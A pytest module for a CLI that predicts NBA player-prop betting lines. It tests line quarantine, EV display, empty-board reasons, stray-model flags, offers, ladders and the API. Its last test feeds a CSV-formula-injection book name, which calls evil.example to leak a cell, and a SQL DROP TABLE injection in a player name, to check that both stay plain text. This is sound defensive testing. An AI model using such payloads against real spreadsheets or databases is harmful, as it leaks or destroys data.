"""Issue 18 items 2, 5, 7, 13 and 14 through the CLI, on a real database file with the shipped box scores and the
real PRA lines of 2024-01-15: implausible and quarantined lines, EV on PASS rows, empty boards without a
reason, a message said twice, a system that strays.

One ``predict`` (moving_average, 60 days of training: the cheapest real batch) is shared by the module; each
test names the item it covers and what happened before.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pyarrow as pa
import pytest
from tests.ingest.csvfiles import write_csv
from typer.testing import CliRunner

from nbaprops.cli import app
from nbaprops.pipeline.ledger import Lease
from nbaprops.pipeline.rows import prediction_rows, staging_rows, stray_rows
from nbaprops.storage import open_storage
from nbaprops.systems.base import SystemOutput
from nbaprops.systems.calibration import Calibrator
from nbaprops.systems.training import ModelBundle

DAY = "2024-01-15"
runner = CliRunner()
FIELDS = ["game_date", "player_name", "market", "line", "bookmaker", "over_price", "under_price", "posted_at"]


def run(*args: str, env: dict[str, str] | None = None) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args), env=env)
    return result.exit_code, result.stdout, result.stderr


def _user_line(path: Path, line: str) -> Path:
    """The issue's file: one book's PRA line for Tatum."""
    row = dict(
        zip(
            FIELDS,
            [DAY, "Jayson Tatum", "pra", line, "MyBook", "-110", "-110", f"{DAY}T18:00:00Z"],
            strict=True,
        )
    )
    return write_csv(path, [row], FIELDS)


@pytest.fixture(scope="module")
def night(
    loaded_db_file: Path, pra_lines: dict[str, Path], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Path, str, str, Path]]:
    """A database where ``predict --lines`` ran for 2024-01-15 with the real lines of the date and a quarantined
    Tatum line (PRA 85.5, his highest of the last 20 games being 57); its database, stdout and stderr."""
    folder = tmp_path_factory.mktemp("night")
    db = folder / "nb.duckdb"
    shutil.copyfile(loaded_db_file, db)
    with pra_lines["2023-24"].open(newline="") as handle:
        real = [r for r in csv.DictReader(handle) if r["event_date"] == DAY]
    day_lines = write_csv(folder / "day_pra.csv", real)
    mine = _user_line(folder / "my.csv", "85.5")
    env = {"NBAPROPS_DATA_DIR": str(folder / "artifacts")}
    code, stdout, stderr = run(
        "predict", "--date", DAY, "--markets", "pra", "--systems", "moving_average",
        "--train-days", "60", "--lines", str(day_lines), "--lines", str(mine), "--db", str(db),
        env=env,
    )  # fmt: skip
    assert code == 0, stderr
    yield db, stdout, stderr, folder


def test_an_implausible_line_is_refused_with_one_error_line(
    night: tuple[Path, str, str, Path], tmp_path: Path
) -> None:
    """Item 2. Before: Tatum's PRA 415 was stored and became pick #1 (UNDER, P(win) 1.00, EV 0.91, full stake);
    ``1e308`` was accepted. Now both are refused naming file, line and column, and nothing is stored."""
    db = night[0]
    with open_storage(db) as storage:
        before = storage.scalar("SELECT count(*) FROM prop_lines")
    for value in ("415", "1e308"):
        path = _user_line(tmp_path / f"typo_{value}.csv", value)
        code, stdout, stderr = run("predict", "--date", DAY, "--lines", str(path), "--force", "--db", str(db))
        assert code == 1
        assert stderr.strip() == (
            f"Error: {path}, line 2, column 'line': value '{value}' is not a plausible pra line "
            "(between 0.5 and 100)"
        )
        code, _, stderr = run("ingest", "lines", str(path), "--db", str(db))
        assert code == 1 and "is not a plausible pra line" in stderr and len(stderr.strip().splitlines()) == 1
    with open_storage(db) as storage:
        assert storage.scalar("SELECT count(*) FROM prop_lines") == before


def test_a_quarantined_line_is_reported_and_never_priced(night: tuple[Path, str, str, Path]) -> None:
    """Item 2. Before: a line far outside the player's games was priced like any other (his only line was his
    line). Now ``predict --lines`` lists it with why, and Tatum's PRA rows carry no line, so no bet."""
    db, _, stderr, _ = night
    assert (
        "quarantined (never priced or bet): Jayson Tatum pra 85.5 at MyBook on 2024-01-15 — above the player's "
        "highest pra of his last 20 games (57) by more than 20" in stderr
    )
    code, stdout, _ = run("predictions", "--date", DAY, "--market", "pra", "--db", str(db), "--json")
    assert code == 0
    rows = json.loads(stdout)["predictions"]
    tatum = [r for r in rows if r["player_lookup"] == "jaysontatum"]
    assert tatum and all(r["line_value"] is None and r["recommendation"] == "NO_LINE" for r in tatum)
    assert sum(r["line_value"] is not None for r in rows) > 50  # the other players' real lines are priced


def test_pass_rows_show_no_expected_value(night: tuple[Path, str, str, Path]) -> None:
    """Item 5. Before: the board showed an EV on each PASS row and sorted by it (under ``no_signal``, Clint
    Capela: EV 0.157 with the prediction on the line; here, with nothing to calibrate on, every PASS row had its
    edge side's EV). Now an EV is shown only for a recommended side."""
    db = night[0]
    code, stdout, _ = run("predictions", "--date", DAY, "--market", "pra", "--db", str(db), "--json")
    rows = json.loads(stdout)["predictions"]
    priced = [r for r in rows if r["line_value"] is not None]
    assert priced and {r["recommendation"] for r in priced} == {"PASS"}
    assert all(r["expected_value"] is None for r in rows)
    code, stdout, _ = run("predictions", "--date", DAY, "--market", "pra", "--db", str(db), "--limit", "5")
    assert code == 0
    body = [line for line in stdout.splitlines() if "PASS" in line]
    assert body and all(re.search(r"│ PASS +│ +│$", line.rstrip()) for line in body)  # the EV cell is blank


def test_empty_boards_say_why(night: tuple[Path, str, str, Path]) -> None:
    """Item 7. Before: ``predictions --bets`` and ``picks`` printed an empty table with no reason (the reason
    showed only in ``predict``'s summary)."""
    db = str(night[0])
    code, stdout, _ = run("predictions", "--date", DAY, "--bets", "--db", db)
    assert code == 0
    assert stdout.splitlines()[0] == f"No bets for {DAY}."
    # no PRA line was graded in the 60 days before: nothing to calibrate on
    assert (
        "pra moving_average: no bets — too few graded rows with a line to calibrate on (calibration none), so "
        "every row is PASS" in stdout
    )
    code, stdout, _ = run("predictions", "--date", DAY, "--bets", "--db", db, "--json")
    assert json.loads(stdout)["no_bets"] == [
        "pra moving_average: no bets — too few graded rows with a line to calibrate on (calibration none), so "
        "every row is PASS"
    ]
    code, stdout, _ = run("predictions", "--date", DAY, "--bets", "--market", "points", "--db", db)
    assert stdout.splitlines() == [
        f"No bets for {DAY}.",
        "no active row of any system for points on 2024-01-15",
    ]
    code, stdout, _ = run("picks", "--date", DAY, "--system", "moving_average", "--db", db)
    assert code == 0
    assert stdout.splitlines()[0] == f"No picks of moving_average for {DAY}."
    assert "pra moving_average: no bets — too few graded rows" in stdout


def test_the_no_bets_reason_says_it_once(night: tuple[Path, str, str, Path]) -> None:
    """Item 13. Before: ``no bets — fewer than 50 graded rows with a line to calibrate on: no bets``."""
    stdout = night[1]
    said = [line for line in stdout.splitlines() if line.startswith("pra moving_average: no bets")]
    assert said == ["pra moving_average: no bets — fewer than 50 graded rows with a line to calibrate on"]
    assert all(line.count("no bets") <= 1 for line in stdout.splitlines())


def test_the_night_cap_is_said(night: tuple[Path, str, str, Path], tmp_path: Path) -> None:
    """Item 7. Before: ``picks`` hid that the nightly cap dropped picks (only the JSON said so)."""
    db = tmp_path / "board.duckdb"
    shutil.copyfile(night[0], db)
    day = date.fromisoformat(DAY)
    # three real players of three games, each with the night's real PRA offers (picks bet at an offer)
    bets = (
        ("kyrieirving", "DAL", "g1", 0.20),
        ("joelembiid", "PHI", "g2", 0.15),
        ("stephencurry", "GSW", "g3", 0.10),
    )
    with open_storage(db) as storage, storage.session() as session:
        for k, (player, team, game, ev) in enumerate(bets):
            line = session.execute(
                "SELECT median(line) FROM prop_lines WHERE player_lookup = ? AND market = 'pra' "
                "AND quarantine_reason IS NULL",
                [player],
            ).fetchall()[0][0]
            lease = Lease("b9", player, 1, "w", player.title(), k, team, "NYK", game, True)
            rows = staging_rows(
                batch_id="b9", game_date=day, leases=[lease], market="pra", system_id="ensemble",
                predicted_value=np.array([line + 5.0]), model_version="ensemble@pra-20240115-abcd1234",
                feature_version="t", now=datetime(2024, 1, 15, 18, tzinfo=UTC),
                line_value=np.array([line]), over_price=np.array([-110.0]), under_price=np.array([-110.0]),
                recommendation=["OVER"], confidence_score=np.array([0.65]), expected_value=np.array([ev]),
            )  # fmt: skip
            name = session.temp_name("board")
            session.register(name, rows)
            session.execute(f"INSERT INTO player_prop_predictions BY NAME SELECT * FROM {name}")
    code, stdout, _ = run("picks", "--date", DAY, "--db", str(db), "--bankroll", "100")
    assert code == 0
    # 0.25 Kelly of 0.65 at -110 is 6.4% > the 2-unit cap a bet; 10 units a night fit five: all three stay.
    assert "left out" not in stdout
    env = {"NBAPROPS_MAX_NIGHT_FRACTION": "0.02"}
    code, stdout, _ = run("picks", "--date", DAY, "--db", str(db), "--bankroll", "100", env=env)
    assert code == 0
    assert "2 more bet(s) left out: the nightly cap of 2.00 units was reached." in stdout
    code, stdout, _ = run("picks", "--date", DAY, "--db", str(db), "--bankroll", "100", "--json", env=env)
    assert json.loads(stdout)["dropped_night_cap"] == 2


def test_a_system_far_from_the_others_and_the_line_is_flagged() -> None:
    """Item 14: on 2024-01-15 ``similarity`` said 30.7 PRA for Trayce Jackson-Davis, the other systems 18-19, the
    line 15.5 — and the row was priced like any other. Now such a row is flagged ``stray`` and not priced."""
    values = {
        "moving_average": np.array([19.1, 19.1, 19.1]),
        "matchup": np.array([19.3, 19.3, 19.3]),
        "gbm": np.array([17.8, 17.8, 17.8]),
        "ensemble": np.array([18.3, 18.3, 18.3]),
        "similarity": np.array([30.7, 30.7, 24.0]),
    }
    # the same numbers against the line 15.5, against 29.5 (near the straying value), and a smaller stray
    strays = stray_rows(values, np.array([15.5, 29.5, 15.5]), "pra")
    assert strays["similarity"].tolist() == [True, False, False]
    assert not any(strays[s].any() for s in values if s != "similarity")
    # no line: far from the others is enough; one other system is not enough to call any stray
    assert stray_rows(values, np.full(3, np.nan), "pra")["similarity"].tolist() == [True, True, False]
    two = {"a": np.array([10.0]), "b": np.array([40.0])}
    assert not any(v.any() for v in stray_rows(two, np.array([20.5]), "pra").values())


def test_a_stray_row_is_not_priced_and_the_board_shows_it(db_path: Path) -> None:
    """Item 14 through the batch's row builder and the board: a system that strays is neither priced nor bet
    (before, similarity's 30.7 against the line 15.5 was an OVER whenever its calibrator allowed bets), and
    ``predictions`` marks the row."""
    day = date.fromisoformat(DAY)
    leases = [Lease("b7", "traycejacksondavis", 1, "w", "Trayce Jackson-Davis", 1, "GSW", "MEM", "g1", False)]
    feats = pa.table({"feature_quality_score": [90.0], "feature_count": [40], "early_season_flag": [False]})
    lines = pa.table(
        {
            "player_lookup": ["traycejacksondavis"], "market": ["pra"], "book_line": [15.5],
            "bookmaker": ["FanDuel"], "over_price": [-110.0], "under_price": [-110.0],
        }
    )  # fmt: skip
    values = {"moving_average": 19.1, "matchup": 19.3, "gbm": 17.8, "ensemble": 18.3, "similarity": 30.7}
    outputs = {sid: SystemOutput(np.array([v]), np.array([4.0]), f"{sid}@pra") for sid, v in values.items()}
    # A calibrator that lets edges be bet: P(over) rises steeply with the standardized edge.
    betting = Calibrator("logistic", 500, 0.0, 3.0, 0.2, 2.6, 0.0, 0.5, "test")
    bundle = ModelBundle("pra", day, day, {}, {sid: betting for sid in values})
    tables = prediction_rows(
        bundle=bundle, systems=list(values), feats=feats, leases=leases, lines=lines, market="pra",
        batch_id="b7", game_date=day, ev_margin=0.02, now=datetime(2024, 1, 15, 18, tzinfo=UTC),
        outputs=outputs,
    )  # fmt: skip
    rows = {t.column("system_id")[0].as_py(): t.to_pylist()[0] for t in tables}
    stray = rows["similarity"]
    assert stray["prediction_error_code"] == "stray"
    assert stray["recommendation"] == "PASS"
    assert stray["p_over"] is None and stray["expected_value"] is None and stray["confidence_score"] is None
    assert rows["ensemble"]["recommendation"] == "OVER" and rows["ensemble"]["prediction_error_code"] is None
    with open_storage(db_path) as storage, storage.session() as session:
        for table in tables:
            name = session.temp_name("rows")
            session.register(name, table)
            session.execute(f"INSERT INTO player_prop_predictions BY NAME SELECT * FROM {name}")
    code, stdout, _ = run("predictions", "--date", DAY, "--db", str(db_path))
    assert code == 0
    marked = [line for line in stdout.splitlines() if "stray" in line]
    assert len(marked) == 1 and "simil" in marked[0] and re.search(r"│ stray +│ +│$", marked[0].rstrip())
    # The dashboard's board marks it too (and shows no EV for it).
    from tests.service.conftest import LiveServer, service_settings

    with LiveServer(service_settings(db_path, db_path.parent / "artifacts")) as live:
        page = httpx.get(f"{live.url}/board/{DAY}", timeout=30).text
    cells = re.findall(r"<td>(.*?)</td>", next(r for r in page.split("<tr") if "<td>similarity</td>" in r))
    assert cells[8:10] == ["stray", ""]


# Issue 20, part 1: every offer priced, on the board, ``--offers``, ``ladder``, ``--books``, and the same in the
# API. The night's database holds the real PRA lines of 2024-01-15 (9-10 books per player, alternate lines).

SECOND_DAY = "2024-01-16"  # lines ingested, nothing predicted: the ladder needs no prediction


@pytest.fixture(scope="module")
def two_days(night: tuple[Path, str, str, Path], pra_lines: dict[str, Path]) -> Path:
    """A copy of the night's database with the real PRA lines of a second date and, for Kyrie Irving on the
    night, one line posted after the prediction time (2024-01-16 00:00 UTC) by a book no one else names."""
    db, folder = night[0], night[3]
    copy = folder / "two_days.duckdb"
    shutil.copyfile(db, copy)
    with pra_lines["2023-24"].open(newline="") as handle:
        real = [r for r in csv.DictReader(handle) if r["event_date"] == SECOND_DAY]
    late = dict(zip(FIELDS, [DAY, "Kyrie Irving", "pra", "46.5", "LateBook", "+150", "-190",
                             "2024-01-16T01:00:00Z"], strict=True))  # fmt: skip
    code, _, stderr = run(
        "ingest", "lines", str(write_csv(folder / "second_pra.csv", real)),
        str(write_csv(folder / "late.csv", [late], FIELDS)), "--db", str(copy),
    )  # fmt: skip
    assert code == 0, stderr
    return copy


def _board(db: Path, *args: str, env: dict[str, str] | None = None) -> list[dict[str, Any]]:
    code, stdout, stderr = run("predictions", "--date", DAY, "--market", "pra", "--db", str(db), "--json", *args,
                               env=env)  # fmt: skip
    assert code == 0, stderr
    rows: list[dict[str, Any]] = json.loads(stdout)["predictions"]
    return rows


def test_every_lined_row_of_the_board_carries_its_market(night: tuple[Path, str, str, Path]) -> None:
    """Before: a row carried one consensus line and the price of the book closest to it; every other book's
    offer was stored and never used. Now each lined row has the fair P(over) at the consensus, the books and
    their spread, the best over and under (book, line, price, EV) and the saving against the consensus book."""
    db = night[0]
    rows = _board(db)
    lined = [r for r in rows if r["line_value"] is not None]
    assert len(lined) > 50
    for r in lined:
        assert r["consensus_line"] == r["line_value"]  # the board and the prediction agree on the line
        assert 0.0 < r["fair_p_over"] < 1.0 and r["n_books"] >= 1 and r["book_spread"] >= 0
        for side in ("over", "under"):
            assert (
                r[f"best_{side}_book"] and r[f"best_{side}_line"] > 0 and abs(r[f"best_{side}_price"]) >= 100
            )
            assert r[f"best_{side}_ev"] is not None and r[f"best_{side}_saving"] >= -1e-12
    assert sum(r["n_books"] >= 8 for r in lined) > 30 and any(r["book_spread"] >= 1 for r in lined)
    tatum = [r for r in rows if r["player_lookup"] == "jaysontatum"]  # his only line is quarantined
    assert tatum and all(r["consensus_line"] is None and r["best_over_book"] is None for r in tatum)
    code, stdout, _ = run("predictions", "--date", DAY, "--market", "pra", "--db", str(db), "--csv")
    header = next(csv.reader(stdout.splitlines()))
    assert code == 0 and header[-17:-2] == [
        "consensus_line", "fair_p_over", "n_books", "book_spread", "consensus_book", "best_over_book",
        "best_over_line", "best_over_price", "best_over_ev", "best_over_saving", "best_under_book",
        "best_under_line", "best_under_price", "best_under_ev", "best_under_saving",
    ]  # fmt: skip


def test_books_limit_the_best_offers_by_flag_or_setting(night: tuple[Path, str, str, Path]) -> None:
    db = night[0]
    everyone = {r["prediction_id"]: r for r in _board(db)}
    for rows in (
        _board(db, "--books", "draftkings, FanDuel"),
        _board(db, env={"NBAPROPS_BOOKS": "DraftKings,FanDuel"}),
    ):
        lined = [r for r in rows if r["line_value"] is not None]
        assert {r["best_over_book"] for r in lined} | {r["best_under_book"] for r in lined} <= {
            "DraftKings", "FanDuel", None}  # fmt: skip
        # the other books still inform the fair price
        assert all(r["fair_p_over"] == everyone[r["prediction_id"]]["fair_p_over"] for r in lined)
    assert len({r["best_over_book"] for r in everyone.values()}) > 2


def test_offers_lists_every_offer_with_its_fair_probability_and_ev(two_days: Path) -> None:
    """``predictions --offers``: every non-quarantined offer of the date (alternate lines too) posted by the
    prediction time, with the fair P(over) at its own line and both EVs."""
    code, stdout, stderr = run("predictions", "--date", DAY, "--offers", "--db", str(two_days), "--json")
    assert code == 0, stderr
    offers = json.loads(stdout)["offers"]
    with open_storage(two_days) as storage:
        stored = storage.scalar(
            "SELECT count(*) FROM prop_lines WHERE game_date = ? AND quarantine_reason IS NULL", [DAY]
        )
    assert len(offers) == stored - 1  # LateBook's line came after the prediction time
    assert "LateBook" not in {o["bookmaker"] for o in offers} and "MyBook" not in {
        o["bookmaker"] for o in offers
    }
    priced = [o for o in offers if o["over_price"] is not None and o["under_price"] is not None]
    assert priced and all(0 < o["fair_p_over"] < 1 and o["ev_over"] is not None for o in priced)
    assert {o["line"] for o in offers if o["player_lookup"] == "kyrieirving"} >= {44.5, 45.5, 46.5}
    # an offer's EV is the fair probability at its line paid at its price: recompute one
    one = next(o for o in priced if o["line"] % 1 == 0.5)
    decimal = 1 + (one["over_price"] / 100 if one["over_price"] > 0 else 100 / -one["over_price"])
    assert one["ev_over"] == pytest.approx(one["fair_p_over"] * decimal - 1)
    code, stdout, _ = run("predictions", "--date", DAY, "--offers", "--db", str(two_days))
    assert code == 0 and f"{len(offers)} offer(s) for {DAY}" in stdout


def test_ladder_prices_every_half_point_against_the_offers_there(two_days: Path) -> None:
    code, stdout, stderr = run("ladder", "--date", DAY, "--player", "kyrie irving", "--market", "pra",
                               "--db", str(two_days), "--json")  # fmt: skip
    assert code == 0, stderr
    ladder = json.loads(stdout)
    assert ladder["player_name"] == "Kyrie Irving" and ladder["consensus_line"] == 46.5
    lines = [rung["line"] for rung in ladder["lines"]]
    assert lines == [41.5 + 0.5 * i for i in range(21)]  # consensus ± 5
    p_over = [rung["p_over"] for rung in ladder["lines"]]
    assert all(a >= b for a, b in zip(p_over, p_over[1:], strict=False)) and p_over[0] > p_over[-1]
    at = {rung["line"]: rung for rung in ladder["lines"]}
    assert {o["bookmaker"] for o in at[46.5]["offers"]} >= {"DraftKings", "BetMGM"}
    assert "LateBook" not in {o["bookmaker"] for o in at[46.5]["offers"]}  # posted after the prediction
    assert at[46.0]["p_push"] > 0 and at[46.5]["p_push"] == 0
    assert at[46.5]["fair_over_odds"] == pytest.approx(ladder["fair_over_odds"])
    # a date without predictions: every line posted before tip-off counts
    code, stdout, stderr = run("ladder", "--date", SECOND_DAY, "--player", "lebron james", "--market", "pra",
                               "--low", "42", "--high", "44", "--db", str(two_days))  # fmt: skip
    assert code == 0, stderr
    assert "LeBron James pra on 2024-01-16" in stdout and stdout.count("\n43.5 ") == 1 and "FanDuel" in stdout


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ("--player", "Nobody Atall", "--market", "pra"),
            "Error: no pra line for 'Nobody Atall' on 2024-01-15",
        ),
        (("--player", "Kyrie Irving", "--market", "blocks"), "Error: unknown market(s) blocks"),
        (
            ("--player", "Kyrie Irving", "--market", "pra", "--date", "2024-01-20"),
            "Error: no lines on 2024-01-20",
        ),
        (
            ("--player", "Kyrie Irving", "--market", "pra", "--low", "50", "--high", "40"),
            "Error: --low 50 and",
        ),
    ],
)
def test_ladder_errors_are_one_line(two_days: Path, args: tuple[str, ...], message: str) -> None:
    code, stdout, stderr = run("ladder", "--date", DAY, *args, "--db", str(two_days))
    assert code == 1 and stdout == ""
    assert stderr.startswith(message) and len(stderr.strip().splitlines()) == 1


def test_the_api_serves_the_market_of_the_board_the_offers_and_the_ladder(
    two_days: Path, tmp_path: Path
) -> None:
    from tests.service.conftest import KEYS, LiveServer, copy_db, service_settings

    db = copy_db(two_days, tmp_path / "api")
    cli_ladder = json.loads(run("ladder", "--date", DAY, "--player", "Kyrie Irving", "--market", "pra",
                                "--db", str(db), "--json")[1])  # fmt: skip
    with (
        LiveServer(service_settings(db, tmp_path / "artifacts", read_auth=True)) as server,
        httpx.Client(base_url=server.url, headers={"X-API-Key": KEYS[0]}, timeout=60) as client,
    ):
        board = client.get("/v1/predictions", params={"date": DAY, "market": "pra", "books": "BetMGM"}).json()
        ladder = client.get("/v1/ladder", params={"date": DAY, "player": "Kyrie Irving", "market": "pra"})
        offers = client.get("/v1/offers", params={"date": DAY, "market": "pra"}).json()
        unknown = client.get("/v1/ladder", params={"date": DAY, "player": "Nobody Atall", "market": "pra"})
        anonymous = httpx.get(f"{server.url}/v1/ladder", params={"date": DAY, "player": "x", "market": "pra"})
        page = client.get(f"/board/{DAY}", params={"market": "pra", "limit": "all"}).text
    lined = [r for r in board["predictions"] if r["line_value"] is not None]
    assert lined and {r["best_over_book"] for r in lined} <= {"BetMGM", None}
    assert all(r["fair_p_over"] is not None for r in lined)
    assert ladder.status_code == 200 and ladder.json() == cli_ladder
    assert offers["count"] == len(offers["offers"]) > 500
    assert unknown.status_code == 422 and unknown.json()["error"].startswith("no pra line for 'Nobody Atall'")
    assert anonymous.status_code == 401  # reads need a key when read_auth is set, like every read route
    # the dashboard's board shows the fair probability and the best offers beside each lined row
    kyrie = next(r for r in page.split("<tr") if "<td>Kyrie Irving</td>" in r)
    cells = re.findall(r"<td>(.*?)</td>", kyrie)
    assert cells[12] == f"{ladder.json()['fair_p_over']:.3f}" and re.fullmatch(
        r"\S.* \d+\.\d [+-]\d+ \(-?0\.\d+\)", cells[13]
    )


def test_hostile_book_and_player_names_stay_text(two_days: Path, tmp_path: Path) -> None:
    """A book named like a spreadsheet formula and a player named like SQL reach neither SQL as text nor a CSV
    as a live formula."""
    db = tmp_path / "hostile.duckdb"
    shutil.copyfile(two_days, db)
    book = '=HYPERLINK("http://evil.example/?x="&A1,"odds")'
    player = "Bobby O'Neil\"; DROP TABLE prop_lines; --"
    rows = [
        dict(zip(FIELDS, [DAY, player, "pra", line, book, "-110", "-110", f"{DAY}T18:00:00Z"], strict=True))
        for line in ("20.5", "21.5")
    ]
    # and a line with one price only: nothing to de-vig, so nothing to price
    only = [DAY, "Only Over", "pra", "20.5", "MyBook", "-110", "", f"{DAY}T18:00:00Z"]
    rows.append(dict(zip(FIELDS, only, strict=True)))
    code, _, stderr = run(
        "ingest", "lines", str(write_csv(tmp_path / "hostile.csv", rows, FIELDS)), "--db", str(db)
    )
    assert code == 0, stderr
    code, _, stderr = run(
        "ladder", "--date", DAY, "--player", "only over", "--market", "pra", "--db", str(db)
    )
    assert code == 1 and stderr.startswith("Error: no pra line for 'only over' on 2024-01-15 has both prices")
    code, stdout, stderr = run("ladder", "--date", DAY, "--player", player, "--market", "pra", "--db", str(db),
                               "--json")  # fmt: skip
    assert code == 0, stderr
    ladder = json.loads(stdout)
    assert ladder["player_name"] == player and {
        o["bookmaker"] for r in ladder["lines"] for o in r["offers"]
    } == {book}
    code, stdout, _ = run("ladder", "--date", DAY, "--player", player, "--market", "pra", "--db", str(db))
    assert code == 0 and "Bobby O'Neil" in stdout
    code, stdout, _ = run("predictions", "--date", DAY, "--offers", "--csv", "--db", str(db))
    cells = [r for r in csv.DictReader(stdout.splitlines()) if r["player_lookup"] == ladder["player_lookup"]]
    assert len(cells) == 2 and {c["bookmaker"] for c in cells} == {"'" + book}
    with open_storage(db) as storage:
        assert storage.scalar("SELECT count(*) FROM prop_lines WHERE game_date = ?", [DAY]) > 800
